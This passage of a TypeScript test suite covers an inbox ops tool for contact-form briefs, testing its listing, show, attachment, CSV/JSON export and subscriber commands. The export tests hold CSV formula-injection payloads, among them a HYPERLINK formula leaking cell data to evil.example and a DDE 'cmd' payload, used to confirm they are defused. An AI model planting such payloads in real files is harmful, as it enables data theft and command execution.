import { randomBytes } from "node:crypto";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Webhook } from "standardwebhooks";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ObjectStore } from "@/lib/store";
import { confirmSubscriber, subscribe, subscriberId, unsubscribeSubscriber } from "@/lib/newsletter";
import { type Delivery, type DeliveryInput, parseDeliveryRecord } from "@/lib/briefs";
import { parseCsvObjects } from "./csv";
import { makePdf, makePng } from "./files";
import { attachmentFor, readJson, runInbox, storeBrief, storeUndelivered, type ToolRun } from "./ops";
import { tempDir } from "./server";
import { type SmtpTestServer, startSmtpServer } from "./smtp";
import { startWebhookReceiver, type WebhookReceiver } from "./webhook-receiver";

/** A fresh, empty inbox on one driver: the store to fill, and the variables that point the tool at it. */
export interface TestInbox {
  store: ObjectStore;
  /** How the tool names this inbox at the end of a table, e.g. `the filesystem inbox /tmp/...`. */
  name: string;
  env: Record<string, string>;
  close(): Promise<void>;
}

export interface InboxBackend {
  name: string;
  open(): Promise<TestInbox>;
}

const lines = (text: string) => text.split("\n").filter((line) => line !== "");
const compact = (reference: string) => reference.replaceAll("-", "").toLowerCase();

/** The rows of a `list` table (header and footer left out), as their references. */
function tableReferences(stdout: string): string[] {
  return lines(stdout)
    .slice(1)
    .filter((line) => /^[A-Z0-9]{4}-/.test(line))
    .map((line) => line.slice(0, 19));
}

function rowOf(stdout: string, reference: string): string {
  return lines(stdout).find((line) => line.startsWith(reference)) ?? "";
}

/** The state of a brief nobody has handled yet: no state.json. */
const NEW = { status: "new", notes: [], history: [] };

const EXPORT_HEADER = [
  "reference",
  "receivedAt",
  "name",
  "email",
  "company",
  "role",
  "projectType",
  "budget",
  "timeline",
  "description",
  "attachmentName",
  "attachmentType",
  "attachmentSize",
  "attachmentSha256",
  "verification",
  "delivery",
  "status",
  // Where the lead came from, appended after the others.
  "page",
  "referrer",
  "utm_source",
  "utm_medium",
  "utm_campaign",
  "utm_term",
  "utm_content",
];

/**
 * Every command of the ops tool, run as a real process against an inbox on `backend`, filled by
 * the service's own `saveBrief` (and `subscribe`), with a real webhook receiver and SMTP server
 * for redelivery.
 */
export function describeInboxTool(backend: InboxBackend): void {
  describe(`inbox tool on the ${backend.name} driver`, () => {
    let inbox: TestInbox;
    let store: ObjectStore;

    beforeEach(async () => {
      inbox = await backend.open();
      store = inbox.store;
    });

    afterEach(async () => {
      await inbox.close();
    });

    const run = (args: string[], env: Record<string, string> = {}, cwd?: string): Promise<ToolRun> =>
      runInbox(args, { env: { ...inbox.env, ...env }, cwd });

    describe("list and spam", () => {
      it("prints a table of the briefs, newest first across days, months and years, with labels and delivery", async () => {
        const pdf = makePdf("Q1 plan");
        const a = await storeBrief(store, {
          receivedAt: "2025-03-02T09:15:00.000Z",
          attachment: attachmentFor(pdf, "Brief – Q1.pdf", "application/pdf", "pdf"),
          delivery: {
            webhook: { ok: true, at: "2025-03-02T09:15:01.000Z" },
            email: { ok: false, at: "2025-03-02T09:15:05.000Z", error: "no answer within 5000 ms" },
          },
        });
        const b = await storeBrief(store, {
          receivedAt: "2025-01-15T17:30:00.000Z",
          fields: { verification: "unavailable" },
          delivery: {},
        });
        // Stored before human verification existed: no `verification` in brief.json.
        const c = await storeBrief(store, {
          receivedAt: "2025-01-15T08:00:00.000Z",
          fields: { verification: undefined },
        });
        const d = await storeBrief(store, {
          receivedAt: "2025-01-01T00:00:01.000Z",
          fields: { company: null, name: "Grace Brewster Murray Hopper of the Navy" },
          delivery: { webhook: { ok: true, at: "2025-01-01T00:00:02.000Z" } },
        });
        const e = await storeBrief(store, {
          receivedAt: "2024-12-31T23:59:59.000Z",
          fields: { projectType: "integration", budget: "undecided", timeline: "exploring" },
          delivery: { email: { ok: false, at: "2024-12-31T23:59:59.500Z", error: "refused" } },
        });
        const spam = await storeBrief(store, { receivedAt: "2025-01-15T12:00:00.000Z", folder: "spam" });

        const result = await run(["list"]);
        expect(result.stderr).toBe("");
        expect(result.code).toBe(0);
        const [header] = lines(result.stdout);
        expect(header).toMatch(
          /^REFERENCE\s+RECEIVED \(UTC\)\s+NAME\s+COMPANY\s+PROJECT TYPE\s+BUDGET\s+TIMELINE\s+ATTACHMENT\s+HUMAN CHECK\s+STATUS\s+ACK\s+DELIVERY$/,
        );
        expect(tableReferences(result.stdout)).toEqual(
          [a, b, c, d, e].map((brief) => brief.record.reference),
        );
        expect(result.stdout).not.toContain(spam.record.reference);

        const rowA = rowOf(result.stdout, a.record.reference);
        for (const text of ["2025-03-02 09:15", "Ada Lovelace", "Analytical Engines Ltd", "AI system"]) {
          expect(rowA).toContain(text);
        }
        expect(rowA).toContain("$50k-$100k");
        expect(rowA).toContain("3-6 months");
        expect(rowA).toContain(`Brief – Q1.pdf (${pdf.byteLength} bytes)`);
        expect(rowA).toMatch(/\spassed\s+new\s+—\s+webhook ✓ email ✗$/);
        expect(rowOf(result.stdout, b.record.reference)).toMatch(
          /—\s+unavailable\s+new\s+—\s+none configured$/,
        );
        expect(rowOf(result.stdout, c.record.reference)).toMatch(/—\s+off\s+new\s+—\s+pending$/);
        const rowD = rowOf(result.stdout, d.record.reference);
        expect(rowD).toContain("Grace Brewster Murray…");
        expect(rowD).toMatch(/…\s+—\s+AI system/);
        expect(rowD).toMatch(/webhook ✓$/);
        const rowE = rowOf(result.stdout, e.record.reference);
        for (const text of ["Integration or automation", "Not decided yet", "Just exploring", "email ✗"]) {
          expect(rowE).toContain(text);
        }
        expect(lines(result.stdout).at(-1)).toBe(`5 briefs in ${inbox.name}`);
      });

      it("--json prints a JSON array of the stored records with their folder and delivery, newest first", async () => {
        const png = makePng(8, 8);
        const older = await storeBrief(store, { receivedAt: "2025-06-01T10:00:00.000Z" });
        const newer = await storeBrief(store, {
          receivedAt: "2025-06-03T10:00:00.000Z",
          attachment: attachmentFor(png, "sketch.png", "image/png", "png"),
          delivery: { webhook: { ok: false, at: "2025-06-03T10:00:05.000Z", error: "answered HTTP 500" } },
        });
        const result = await run(["list", "--json"]);
        expect(result.code).toBe(0);
        const listed = JSON.parse(result.stdout) as Record<string, unknown>[];
        expect(listed).toEqual([
          {
            ...newer.record,
            folder: newer.folder,
            // A record from before retries, as it reads now: failed, one attempt, that attempt its log.
            delivery: {
              webhook: {
                state: "failed",
                ok: false,
                at: "2025-06-03T10:00:05.000Z",
                attempts: 1,
                error: "answered HTTP 500",
                log: [{ at: "2025-06-03T10:00:05.000Z", ok: false, ms: 0, error: "answered HTTP 500" }],
              },
            },
            state: NEW,
          },
          { ...older.record, folder: older.folder, delivery: null, state: NEW },
        ]);
        expect(newer.folder).toBe(`briefs/2025/06/03/${newer.record.reference}`);
      });

      it("an empty inbox lists nothing, in both forms", async () => {
        const table = await run(["list"]);
        expect(table.code).toBe(0);
        expect(lines(table.stdout)).toHaveLength(2);
        expect(lines(table.stdout).at(-1)).toBe(`0 briefs in ${inbox.name}`);
        const json = await run(["list", "--json"]);
        expect(json.code).toBe(0);
        expect(JSON.parse(json.stdout)).toEqual([]);
      });

      it("--since lists from that UTC day on and never reads anything older", async () => {
        const kept = [
          await storeBrief(store, { receivedAt: "2025-02-01T00:00:00.000Z" }),
          await storeBrief(store, { receivedAt: "2025-01-31T23:59:59.999Z" }),
        ];
        await storeBrief(store, { receivedAt: "2025-01-30T23:59:59.999Z" });
        // Damage a brief from an earlier month: a listing that reads it says so and exits 1.
        await store.put("briefs/2024/11/05/DAMG-DAMG-DAMG-DAMG/brief.json", "{ not json", "application/json");

        const since = await run(["list", "--since", "2025-01-31"]);
        expect(since.stderr).toBe("");
        expect(since.code).toBe(0);
        expect(tableReferences(since.stdout)).toEqual(kept.map((brief) => brief.record.reference));
        expect(lines(since.stdout).at(-1)).toBe(`2 briefs since 2025-01-31 in ${inbox.name}`);

        const all = await run(["list"]);
        expect(all.code).toBe(1);
        expect(all.stderr).toContain(
          "skipped: briefs/2024/11/05/DAMG-DAMG-DAMG-DAMG/brief.json is not valid JSON",
        );
        expect(tableReferences(all.stdout)).toHaveLength(3);
      });

      it("--delivery failed|retrying lists the briefs with a failed or due record, from those records alone", async () => {
        await storeBrief(store, { receivedAt: "2025-05-01T10:00:00.000Z", delivery: {} });
        const retrying = await storeUndelivered(store, "retrying", {
          receivedAt: "2025-05-02T10:00:00.000Z",
        });
        const failedOld = await storeUndelivered(store, "failed", {
          receivedAt: "2024-12-30T10:00:00.000Z",
          channel: "email",
          error: "550 mailbox unavailable",
        });
        const failedNew = await storeUndelivered(store, "failed", { receivedAt: "2025-05-03T10:00:00.000Z" });
        // A damaged brief elsewhere, and a failed record whose brief was erased meanwhile: a
        // listing from the records never reads the one nor shows the other.
        await store.put("briefs/2025/05/04/DAMG-DAMG-DAMG-DAMG/brief.json", "{ not json", "application/json");
        const gone = { reference: "GONE-GONE-GONE-GONE", folder: "briefs/2025/05/05/GONE-GONE-GONE-GONE" };
        await store.put(
          `deliveries/failed/${gone.reference}.webhook.json`,
          `${JSON.stringify({ ...gone, channel: "webhook", at: "2025-05-05T10:00:00.000Z", error: "x" })}\n`,
          "application/json",
        );

        const failed = await run(["list", "--delivery", "failed"]);
        expect(failed.stderr).toBe("");
        expect(failed.code).toBe(0);
        expect(tableReferences(failed.stdout)).toEqual(
          [failedNew, failedOld].map((brief) => brief.record.reference),
        );
        expect(rowOf(failed.stdout, failedOld.record.reference)).toMatch(/email ✗$/);
        expect(lines(failed.stdout).at(-1)).toBe(`2 briefs with a delivery failed in ${inbox.name}`);

        const due = await run(["list", "--delivery", "retrying", "--json"]);
        expect(due.code).toBe(0);
        const listed = JSON.parse(due.stdout) as { reference: string; delivery: Delivery }[];
        expect(listed.map((brief) => brief.reference)).toEqual([retrying.record.reference]);
        expect(listed[0]?.delivery.webhook).toMatchObject({ state: "retrying", attempts: 2 });

        const since = await run(["list", "--delivery", "failed", "--since", "2025-01-01"]);
        expect(tableReferences(since.stdout)).toEqual([failedNew.record.reference]);

        const wrong = await run(["list", "--delivery", "stuck"]);
        expect(wrong.code).toBe(2);
        expect(wrong.stderr).toContain('--delivery takes retrying or failed, got "stuck"');
      });

      it("spam lists what was caught, and only that, each with what caught it", async () => {
        const brief = await storeBrief(store, { receivedAt: "2025-05-05T10:00:00.000Z" });
        // Written before spam rules existed: no `spam` field, so the honeypot caught it.
        const caught = await storeBrief(store, {
          receivedAt: "2025-05-04T10:00:00.000Z",
          folder: "spam",
          fields: { name: "Cheap Pills" },
        });
        const byKeyword = await storeBrief(store, {
          receivedAt: "2025-05-03T10:00:00.000Z",
          folder: "spam",
          fields: { name: "Casino Royale", spam: { reason: "keyword", match: "casino" } },
        });
        const result = await run(["spam"]);
        expect(result.code).toBe(0);
        expect(lines(result.stdout)[0]).toMatch(/CAUGHT BY$/);
        expect(tableReferences(result.stdout)).toEqual([caught.record.reference, byKeyword.record.reference]);
        expect(rowOf(result.stdout, caught.record.reference)).toMatch(/Cheap Pills.*the honeypot$/);
        expect(rowOf(result.stdout, byKeyword.record.reference)).toMatch(
          /Casino Royale.*the keyword "casino"$/,
        );
        expect(result.stdout).not.toContain(brief.record.reference);
        expect(lines(result.stdout).at(-1)).toBe(`2 caught as spam in ${inbox.name}`);
        const json = JSON.parse((await run(["spam", "--json"])).stdout) as {
          folder: string;
          spam: unknown;
        }[];
        expect(json.map((item) => item.folder)).toEqual([caught.folder, byKeyword.folder]);
        expect(json.map((item) => item.spam)).toEqual([
          { reason: "honeypot" },
          { reason: "keyword", match: "casino" },
        ]);
        expect(caught.folder.startsWith("spam/2025/05/04/")).toBe(true);
      });
    });

    describe("show", () => {
      it("prints every field, the description wrapped, the attachment and the delivery record", async () => {
        const paragraph =
          "We run forty-two warehouses and want one system that predicts stock, plans routes and explains " +
          "each decision to the people on the floor, in plain words.";
        const description = `${paragraph}\n\nSecond paragraph:\n\t- a tabbed list item\nhttps://example.com/${"x".repeat(90)}`;
        const pdf = makePdf("Warehouses", { size: 48_213 });
        const brief = await storeBrief(store, {
          receivedAt: "2025-04-01T08:09:10.000Z",
          fields: { description, role: null, timeline: "asap", budget: "over-250k" },
          attachment: attachmentFor(pdf, "Warehouses brief.pdf", "application/pdf", "pdf"),
          delivery: {
            webhook: { ok: false, at: "2025-04-01T08:09:15.000Z", error: "answered HTTP 502" },
            email: { ok: true, at: "2025-04-01T08:09:11.000Z" },
          },
        });
        const { record } = brief;
        // Typed in lower case without dashes, as someone copying it from a phone call might.
        const result = await run(["show", compact(record.reference)]);
        expect(result.stderr).toBe("");
        expect(result.code).toBe(0);
        const out = result.stdout;
        expect(out).toContain(`Brief ${record.reference}\n`);
        expect(out).toContain(`Stored at     ${brief.folder}/\n`);
        expect(out).toContain("Received      2025-04-01 08:09:10 UTC\n");
        expect(out).toContain("Name          Ada Lovelace\n");
        expect(out).toContain("Email         ada@example.com\n");
        expect(out).toContain("Company       Analytical Engines Ltd\n");
        expect(out).toContain("Role          —\n");
        expect(out).toContain("Project type  AI system (ai-system)\n");
        expect(out).toContain("Budget        Over $250k (over-250k)\n");
        expect(out).toContain("Timeline      As soon as possible (asap)\n");
        expect(out).toContain("Consent       given\n");
        expect(out).toContain("Human check   passed (Cloudflare Turnstile)\n");

        const shown = out.slice(
          out.indexOf("Description\n") + "Description\n".length,
          out.indexOf("\nAttachment"),
        );
        const shownLines = shown.split("\n");
        const url = `https://example.com/${"x".repeat(90)}`;
        for (const line of shownLines) {
          if (!line.includes(url)) expect([...line].length).toBeLessThanOrEqual(78);
        }
        expect(
          shownLines.filter((line) => line.startsWith("  We run") || line.startsWith("  each")),
        ).not.toEqual([]);
        // Wrapping only moved words between lines: the paragraph reads the same.
        expect(shown.split(/\s+/).join(" ")).toContain(paragraph);
        expect(shown).toContain("\n\n  Second paragraph:\n");
        expect(shown).toContain(`  ${url}`);

        expect(out).toContain("  Name          Warehouses brief.pdf\n");
        expect(out).toContain("  Type          application/pdf\n");
        expect(out).toContain("  Size          47.1 KB (48213 bytes)\n");
        expect(out).toContain(`  SHA-256       ${record.attachment?.sha256}\n`);
        expect(out).toMatch(/webhook\s+✗ failed\s+2025-04-01 08:09:15 UTC\s+answered HTTP 502/);
        expect(out).toMatch(/email\s+✓ delivered\s+2025-04-01 08:09:11 UTC/);
        expect(out).toContain(`  IP hash       ${"ab".repeat(32)}\n`);
        expect(out).toContain("  User agent    Mozilla/5.0 (test)\n");
      });

      it("--json prints the stored record with its folder and delivery", async () => {
        const brief = await storeBrief(store, { receivedAt: "2025-04-02T10:00:00.000Z" });
        const result = await run(["show", brief.record.reference.toLowerCase(), "--json"]);
        expect(result.code).toBe(0);
        expect(JSON.parse(result.stdout)).toEqual({
          ...brief.record,
          folder: brief.folder,
          delivery: null,
          state: NEW,
        });
      });

      it("shows the acknowledgment to the sender: sent, suppressed with its reason, or failed", async () => {
        const sent = await storeBrief(store, {
          receivedAt: "2025-04-05T10:00:00.000Z",
          delivery: {
            email: { ok: true, at: "2025-04-05T10:00:01.000Z" },
            acknowledgment: { ok: true, at: "2025-04-05T10:00:02.000Z" },
          },
        });
        const held = await storeBrief(store, {
          receivedAt: "2025-04-05T11:00:00.000Z",
          delivery: {
            acknowledgment: {
              ok: false,
              suppressed: true,
              at: "2025-04-05T11:00:01.000Z",
              error: "not sent: an acknowledgment went to this address within 10 minutes",
            },
          },
        });
        const failed = await storeBrief(store, {
          receivedAt: "2025-04-05T12:00:00.000Z",
          delivery: {
            webhook: { ok: true, at: "2025-04-05T12:00:01.000Z" },
            acknowledgment: {
              ok: false,
              at: "2025-04-05T12:00:03.000Z",
              error: "connect ECONNREFUSED 127.0.0.1:2525",
            },
          },
        });

        const shown = async (reference: string) => {
          const result = await run(["show", reference]);
          expect(result.code).toBe(0);
          return result.stdout;
        };
        const first = await shown(sent.record.reference);
        expect(first).toMatch(/\n {2}email\s+✓ delivered\s+2025-04-05 10:00:01 UTC\n/);
        expect(first).toMatch(/\n {2}acknowledgment\s+✓ sent\s+2025-04-05 10:00:02 UTC\n/);

        const second = await shown(held.record.reference);
        expect(second).toContain("\n  no channel was configured\n");
        expect(second).toMatch(
          /\n {2}acknowledgment\s+– suppressed\s+2025-04-05 11:00:01 UTC\s+not sent: an acknowledgment went to this address within 10 minutes\n/,
        );

        const third = await shown(failed.record.reference);
        expect(third).toMatch(/\n {2}webhook\s+✓ delivered\s+2025-04-05 12:00:01 UTC\n/);
        expect(third).toMatch(
          /\n {2}acknowledgment\s+✗ failed\s+2025-04-05 12:00:03 UTC\s+connect ECONNREFUSED 127\.0\.0\.1:2525\n/,
        );

        // `list` shows it too, in a column of its own beside ops' channels.
        const none = await storeBrief(store, {
          receivedAt: "2025-04-05T13:00:00.000Z",
          delivery: { email: { ok: true, at: "2025-04-05T13:00:01.000Z" } },
        });
        const listed = await run(["list"]);
        expect(listed.code).toBe(0);
        expect(rowOf(listed.stdout, sent.record.reference)).toMatch(/\bnew\s+sent\s+email ✓$/);
        expect(rowOf(listed.stdout, held.record.reference)).toMatch(/\bnew\s+suppressed\s+none configured$/);
        expect(rowOf(listed.stdout, failed.record.reference)).toMatch(/\bnew\s+failed\s+webhook ✓$/);
        expect(rowOf(listed.stdout, none.record.reference)).toMatch(/\bnew\s+—\s+email ✓$/);
      });

      it("finds a honeypot catch too, and says so", async () => {
        const caught = await storeBrief(store, { receivedAt: "2025-04-03T10:00:00.000Z", folder: "spam" });
        const result = await run(["show", caught.record.reference]);
        expect(result.code).toBe(0);
        expect(result.stdout).toContain(`Brief ${caught.record.reference} (caught by the honeypot)`);
        expect(result.stdout).toContain("Delivery      not sent: caught by the honeypot");
      });

      it("says which spam rule caught an entry, and where a lead came from", async () => {
        const caught = await storeBrief(store, {
          receivedAt: "2025-04-03T11:00:00.000Z",
          folder: "spam",
          fields: {
            spam: { reason: "domain", match: "münchen.example" },
            attribution: { page: "/pricing?plan=pro", utm: { source: "newsletter", campaign: "spring" } },
          },
        });
        const result = await run(["show", caught.record.reference]);
        expect(result.code).toBe(0);
        expect(result.stdout).toContain(
          `Brief ${caught.record.reference} (caught by the domain münchen.example)`,
        );
        expect(result.stdout).toContain(
          [
            "Came from",
            "  Page          /pricing?plan=pro",
            "  utm_source    newsletter",
            "  utm_campaign  spring",
          ].join("\n"),
        );
      });

      it("an unknown reference exits 1 with 'not found'; a malformed one is a usage error (2)", async () => {
        await storeBrief(store, { receivedAt: "2025-04-04T10:00:00.000Z" });
        const missing = await run(["show", "K7QM-3XD9-PTWA-84HC"]);
        expect(missing.code).toBe(1);
        expect(missing.stdout).toBe("");
        expect(missing.stderr).toBe("inbox: brief K7QM-3XD9-PTWA-84HC not found in the inbox\n");
        const malformed = await run(["show", "K7QM-3XD9"]);
        expect(malformed.code).toBe(2);
        expect(malformed.stderr).toContain('"K7QM-3XD9" is not a brief reference');
        expect(malformed.stderr).toContain("Usage:");
      });
    });

    describe("attachment", () => {
      it("saves the file under its original name with its real extension, checked, and never overwrites unasked", async () => {
        const png = makePng(24, 24);
        // Sent as a .pdf, but its bytes are a PNG: it is saved as what it is.
        const brief = await storeBrief(store, {
          receivedAt: "2025-07-07T07:07:07.000Z",
          attachment: attachmentFor(png, "diagram.pdf", "image/png", "png"),
        });
        const cwd = await tempDir("ops-cwd-");
        const reference = compact(brief.record.reference);

        const first = await run(["attachment", reference], {}, cwd);
        expect(first.code).toBe(0);
        expect(first.stdout).toBe("");
        expect(first.stderr).toContain("SHA-256 checked");
        expect(await readdir(cwd)).toEqual(["diagram.png"]);
        expect(Buffer.from(await readFile(join(cwd, "diagram.png"))).equals(Buffer.from(png))).toBe(true);

        await writeFile(join(cwd, "diagram.png"), "ops' own notes");
        const again = await run(["attachment", reference], {}, cwd);
        expect(again.code).toBe(1);
        expect(again.stderr).toMatch(
          /diagram\.png already exists; nothing was written \(--force overwrites it\)/,
        );
        expect(await readFile(join(cwd, "diagram.png"), "utf8")).toBe("ops' own notes");

        const forced = await run(["attachment", reference, "--force"], {}, cwd);
        expect(forced.code).toBe(0);
        expect(Buffer.from(await readFile(join(cwd, "diagram.png"))).equals(Buffer.from(png))).toBe(true);

        await mkdir(join(cwd, "saved"));
        const named = await run(["attachment", reference, "--out", "saved/brief-image.png"], {}, cwd);
        expect(named.code).toBe(0);
        expect(Buffer.from(await readFile(join(cwd, "saved/brief-image.png"))).equals(Buffer.from(png))).toBe(
          true,
        );
        const intoFolder = await run(["attachment", reference, "--out", "saved"], {}, cwd);
        expect(intoFolder.code).toBe(0);
        expect((await readdir(join(cwd, "saved"))).sort()).toEqual(["brief-image.png", "diagram.png"]);

        const piped = await run(["attachment", reference, "--out", "-"], {}, cwd);
        expect(piped.code).toBe(0);
        expect(piped.stdoutBytes.equals(Buffer.from(png))).toBe(true);
      });

      it("refuses, loudly and writing nothing, a file that no longer matches the SHA-256 in brief.json", async () => {
        const pdf = makePdf("Original");
        const brief = await storeBrief(store, {
          receivedAt: "2025-07-08T10:00:00.000Z",
          attachment: attachmentFor(pdf, "plan.pdf", "application/pdf", "pdf"),
        });
        await store.put(`${brief.folder}/attachment.pdf`, makePdf("Tampered"), "application/pdf");
        const cwd = await tempDir("ops-cwd-");
        const result = await run(["attachment", brief.record.reference], {}, cwd);
        expect(result.code).toBe(1);
        expect(result.stderr).toContain(
          `The attachment of brief ${brief.record.reference} does not match brief.json`,
        );
        expect(result.stderr).toContain(brief.record.attachment?.sha256);
        expect(await readdir(cwd)).toEqual([]);
        const piped = await run(["attachment", brief.record.reference, "--out", "-"], {}, cwd);
        expect(piped.code).toBe(1);
        expect(piped.stdout).toBe("");
      });

      it("a brief without a file, or whose file is gone, exits 1", async () => {
        const plain = await storeBrief(store, { receivedAt: "2025-07-09T10:00:00.000Z" });
        const none = await run(["attachment", plain.record.reference]);
        expect(none.code).toBe(1);
        expect(none.stderr).toBe(`inbox: Brief ${plain.record.reference} has no attachment.\n`);

        const gone = await storeBrief(store, {
          receivedAt: "2025-07-09T11:00:00.000Z",
          attachment: attachmentFor(makePdf(), "x.pdf", "application/pdf", "pdf"),
        });
        await store.delete(`${gone.folder}/attachment.pdf`);
        const missing = await run(["attachment", gone.record.reference], {}, await tempDir("ops-cwd-"));
        expect(missing.code).toBe(1);
        expect(missing.stderr).toContain("is missing");
      });
    });

    describe("export", () => {
      const tricky = [
        'Commas, "double quotes", and a line break\nin the middle, then CRLF\r\nand a trailing quote"',
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "+1 555 0100, call me before noon",
        "-2+3 is how we estimate",
        "@SUM(A1:A9) of our budget",
        "Plain text with no special characters at all, just words.",
        "Only line breaks here\nnothing else to quote\r\nnot even a comma",
      ];

      it("writes RFC 4180 CSV that reads back exactly, formulas defused, with a header row", async () => {
        const stored: Awaited<ReturnType<typeof storeBrief>>[] = [];
        for (const [index, description] of tricky.entries()) {
          stored.push(
            await storeBrief(store, {
              receivedAt: `2025-08-0${index + 1}T10:00:00.000Z`,
              fields: {
                description,
                name: index === 1 ? "=cmd|' /C calc'!A0" : "Ada Lovelace",
                company: index === 2 ? "\t=1+1" : index === 3 ? null : "Engines, Inc.",
              },
              attachment: index === 0 ? attachmentFor(makePdf(), "a,b.pdf", "application/pdf", "pdf") : null,
              delivery: index === 0 ? { webhook: { ok: true, at: "2025-08-01T10:00:01.000Z" } } : undefined,
            }),
          );
        }
        const result = await run(["export", "--format", "csv"]);
        expect(result.code).toBe(0);
        expect(result.stderr).toBe("Exported 7 briefs as CSV.\n");
        expect(result.stdout.split("\r\n")[0]).toBe(EXPORT_HEADER.join(","));
        const rows = parseCsvObjects(result.stdout);
        expect(Object.keys(rows[0] ?? {})).toEqual(EXPORT_HEADER);
        // Newest first: the last stored is the first row.
        expect(rows.map((row) => row.reference)).toEqual(stored.map((b) => b.record.reference).reverse());

        const byReference = new Map(rows.map((row) => [row.reference, row]));
        const row = (index: number) => byReference.get(stored[index]?.record.reference ?? "") ?? {};
        expect(row(0).description).toBe(tricky[0]);
        expect(row(1).description).toBe(`'${tricky[1]}`);
        expect(row(1).name).toBe("'=cmd|' /C calc'!A0");
        expect(row(2).description).toBe(`'${tricky[2]}`);
        expect(row(2).company).toBe("'\t=1+1");
        expect(row(3).description).toBe(`'${tricky[3]}`);
        expect(row(3).company).toBe("");
        expect(row(4).description).toBe(`'${tricky[4]}`);
        expect(row(5).description).toBe(tricky[5]);
        expect(row(6).description).toBe(tricky[6]);
        expect(row(0)).toMatchObject({
          receivedAt: "2025-08-01T10:00:00.000Z",
          email: "ada@example.com",
          company: "Engines, Inc.",
          role: "Founder",
          projectType: "AI system",
          budget: "$50k-$100k",
          timeline: "3-6 months",
          attachmentName: "a,b.pdf",
          attachmentType: "application/pdf",
          attachmentSize: String(stored[0]?.record.attachment?.size),
          attachmentSha256: stored[0]?.record.attachment?.sha256,
          verification: "passed",
          delivery: "webhook ✓",
        });
        expect(row(1)).toMatchObject({ attachmentName: "", attachmentSize: "", delivery: "pending" });

        const json = await run(["export", "--format", "json"]);
        expect(json.code).toBe(0);
        const objects = JSON.parse(json.stdout) as Record<string, unknown>[];
        expect(objects.map((object) => Object.keys(object))).toEqual(objects.map(() => EXPORT_HEADER));
        // JSON is not read by spreadsheets: the text stays exactly as received.
        expect(objects.map((object) => object.description)).toEqual([...tricky].reverse());
        expect(objects.at(-1)).toMatchObject({
          attachmentSize: stored[0]?.record.attachment?.size,
          company: "Engines, Inc.",
        });
        expect(objects[3]).toMatchObject({ company: null, attachmentName: null });
      });

      it("--out writes a file (never over an existing one unasked), --since limits the rows", async () => {
        const recent = await storeBrief(store, { receivedAt: "2025-09-10T10:00:00.000Z" });
        await storeBrief(store, { receivedAt: "2025-09-09T10:00:00.000Z" });
        const cwd = await tempDir("ops-cwd-");
        const result = await run(
          ["export", "--format", "csv", "--since", "2025-09-10", "--out", "briefs.csv"],
          {},
          cwd,
        );
        expect(result.code).toBe(0);
        expect(result.stdout).toBe("");
        expect(result.stderr).toBe(`Exported 1 brief as CSV to ${join(cwd, "briefs.csv")}.\n`);
        const rows = parseCsvObjects(await readFile(join(cwd, "briefs.csv"), "utf8"));
        expect(rows.map((row) => row.reference)).toEqual([recent.record.reference]);

        const again = await run(["export", "--format", "json", "--out", "briefs.csv"], {}, cwd);
        expect(again.code).toBe(1);
        expect(again.stderr).toContain("already exists");
        expect(parseCsvObjects(await readFile(join(cwd, "briefs.csv"), "utf8"))).toHaveLength(1);

        const forced = await run(["export", "--format", "json", "--out", "briefs.csv", "--force"], {}, cwd);
        expect(forced.code).toBe(0);
        expect(JSON.parse(await readFile(join(cwd, "briefs.csv"), "utf8"))).toHaveLength(2);
      });

      it("reports progress on stderr every 100 briefs, keeping stdout to the CSV", async () => {
        const total = 230;
        for (let start = 0; start < total; start += 23) {
          await Promise.all(
            Array.from({ length: Math.min(23, total - start) }, (_, offset) => {
              const index = start + offset;
              const day = String((index % 28) + 1).padStart(2, "0");
              return storeBrief(store, {
                receivedAt: `2025-10-${day}T${String(index % 24).padStart(2, "0")}:00:${String(index % 60).padStart(2, "0")}.000Z`,
              });
            }),
          );
        }
        const result = await run(["export", "--format", "csv"]);
        expect(result.code).toBe(0);
        expect(result.stderr).toBe(
          "exported 100 briefs…\nexported 200 briefs…\nExported 230 briefs as CSV.\n",
        );
        const rows = parseCsvObjects(result.stdout);
        expect(rows).toHaveLength(total);
        const times = rows.map((row) => row.receivedAt ?? "");
        expect(times).toEqual([...times].sort().reverse());
      });
    });

    describe("subscribers", () => {
      it("lists confirmed subscribers with status, topics and dates, newest first, as a table, CSV or JSON", async () => {
        await subscribe(
          store,
          { email: "ada@example.com", topics: ["AI", "Research"], verification: "passed" },
          new Date("2025-01-01T10:00:00Z"),
        );
        await subscribe(
          store,
          { email: "+grace@navy.example", topics: [], verification: "unavailable" },
          new Date("2025-02-01T10:00:00Z"),
        );
        await subscribe(
          store,
          { email: "Ada@Example.com", topics: ["Quantum"], verification: "unavailable" },
          new Date("2025-03-01T10:00:00Z"),
        );

        const table = await run(["subscribers"]);
        expect(table.code).toBe(0);
        const rows = lines(table.stdout);
        expect(rows[0]).toMatch(
          /^EMAIL\s+STATUS\s+SUBSCRIBED \(UTC\)\s+UPDATED \(UTC\)\s+HUMAN CHECK\s+TOPICS$/,
        );
        expect(rows[1]).toMatch(
          /^\+grace@navy\.example\s+confirmed\s+2025-02-01 10:00\s+2025-02-01 10:00\s+unavailable\s+—$/,
        );
        // Topics added later by an unchecked request: the record keeps how it was created.
        expect(rows[2]).toMatch(
          /^ada@example\.com\s+confirmed\s+2025-01-01 10:00\s+2025-03-01 10:00\s+passed\s+AI, Research, Quantum$/,
        );
        expect(rows.at(-1)).toBe(`2 confirmed subscribers in ${inbox.name}`);

        const csv = await run(["subscribers", "--csv"]);
        expect(csv.code).toBe(0);
        expect(parseCsvObjects(csv.stdout)).toEqual([
          {
            email: "'+grace@navy.example",
            status: "confirmed",
            topics: "",
            subscribedAt: "2025-02-01T10:00:00.000Z",
            updatedAt: "2025-02-01T10:00:00.000Z",
            confirmedAt: "2025-02-01T10:00:00.000Z",
            unsubscribedAt: "",
            verification: "unavailable",
          },
          {
            email: "ada@example.com",
            status: "confirmed",
            topics: "AI; Research; Quantum",
            subscribedAt: "2025-01-01T10:00:00.000Z",
            updatedAt: "2025-03-01T10:00:00.000Z",
            confirmedAt: "2025-01-01T10:00:00.000Z",
            unsubscribedAt: "",
            verification: "passed",
          },
        ]);

        const json = await run(["subscribers", "--json"]);
        expect(json.code).toBe(0);
        expect(JSON.parse(json.stdout)).toEqual([
          {
            email: "+grace@navy.example",
            topics: [],
            status: "confirmed",
            subscribedAt: "2025-02-01T10:00:00.000Z",
            updatedAt: "2025-02-01T10:00:00.000Z",
            confirmedAt: "2025-02-01T10:00:00.000Z",
            unsubscribedAt: null,
